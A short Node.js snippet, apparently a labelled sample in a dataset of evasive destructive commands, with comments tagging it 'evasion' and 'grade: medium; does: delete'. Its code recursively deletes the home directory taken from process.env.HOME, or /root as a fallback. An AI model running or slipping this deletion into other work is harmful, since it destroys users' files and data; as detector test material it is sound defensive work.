// evasion: the home directory from process.env.HOME || a fallback, a slash appended, removed with rmSync
// grade: medium; does: delete
const fs = require('fs');
const target = process.env.HOME || '/root';
fs.rmSync(target + '/', { recursive: true });
